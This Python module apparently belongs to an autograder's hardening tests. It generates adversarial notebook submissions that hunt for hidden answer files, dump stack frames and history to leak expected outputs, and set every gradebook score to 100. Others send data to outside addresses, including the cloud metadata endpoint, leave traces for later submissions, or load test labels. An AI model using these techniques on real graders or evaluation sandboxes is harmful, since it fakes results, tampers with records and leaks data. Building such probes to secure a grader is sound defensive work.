"""Attempts to read what is hidden, to carry it out, and to leave something for the next submission."""

from __future__ import annotations

from nbformat import NotebookNode

from autograder.lab import Lab
from autograder.prove.attacks.registry import answer, attack, wrong_answer
from autograder.prove.notebooks import solved

FIND = """def {name}(*args, **kwargs):
    import os, pathlib
    for top in ("/", "/input", "/home", "/root", "/autograder", "/usr/share", "/etc", os.getcwd()):
        for folder, _, files in os.walk(top):
            if folder.startswith(("/proc", "/sys")):
                continue
            for file in files:
                if file in FILES or "hidden" in folder:
                    text = pathlib.Path(folder, file).read_text(errors="ignore")
                    if "{name}" in text:
                        raise RuntimeError(text[:100000])
"""


@attack
def hidden_files(lab: Lab) -> NotebookNode:
    return answer(lab, f"FILES = ('{lab.name}.py', '{lab.stem}.ipynb', 'grades.csv')\n{FIND}")


@attack
def gradebook(lab: Lab) -> NotebookNode:
    patch = """import glob, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../../gradebook.db"]:
    try:
        sqlite3.connect(path).execute("update grade set manual_score = 100")
    except sqlite3.Error:
        pass
"""
    return wrong_answer(lab, last=patch)


@attack
def frames_and_history(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import gc, inspect, sys
    text = [str(get_ipython().user_ns.get("In"))]
    for frame in inspect.stack():
        text += [str(frame.frame.f_locals), str(frame.frame.f_globals), str(frame.code_context)]
    text += [str(o)[:1000] for o in gc.get_objects() if isinstance(o, dict) and ("expected" in o or "ref" in o)]
    sys.stdout.write("".join(text)[:100000])
    raise RuntimeError("".join(text)[:100000])
""",
    )


@attack
def loud_inputs(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import matplotlib.pyplot as plt, pathlib, warnings
    print("LEAK", args, kwargs)
    warnings.warn(f"LEAK {args}")
    pathlib.Path(f"LEAK-{hash(str(args))}.txt").write_text(str(args))
    plt.title(f"LEAK {args}"[:200]); plt.show()
    raise ValueError(f"LEAK {args} {kwargs}")
""",
    )


@attack
def network(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import socket
    for address in (("1.1.1.1", 53), ("169.254.169.254", 80), ("127.0.0.1", 8888)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(type=kind) as s:
                s.settimeout(0.2)
                try:
                    s.connect(address)
                    s.send(str(args).encode())
                except OSError:
                    continue
                if kind == socket.SOCK_STREAM:
                    raise ConnectionError("the network is open")
""",
    )


@attack
def left_behind(lab: Lab) -> NotebookNode:
    """Leaves its inputs in every shared place; the twin `found_behind` looks for them."""
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import pathlib, sys
    for place in ("/tmp", "/dev/shm", "/var/tmp", pathlib.Path.home(), ".", sys.prefix, "/input"):
        try:
            pathlib.Path(place, "LEFT").write_text(str(args))
        except OSError:
            pass
""",
    )


@attack
def found_behind(lab: Lab) -> NotebookNode:
    """Solved, but broken wherever something of `left_behind` is found."""
    look = """import pathlib, sys
for place in ("/tmp", "/dev/shm", "/var/tmp", pathlib.Path.home(), ".", sys.prefix, "/input"):
    if pathlib.Path(place, "LEFT").exists():
        get_ipython().kernel.do_shutdown(False)
"""
    return solved(lab, first=look)


@attack
def test_labels(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    from effdl import data
    return data.fashion_mnist("test").labels
""",
    )
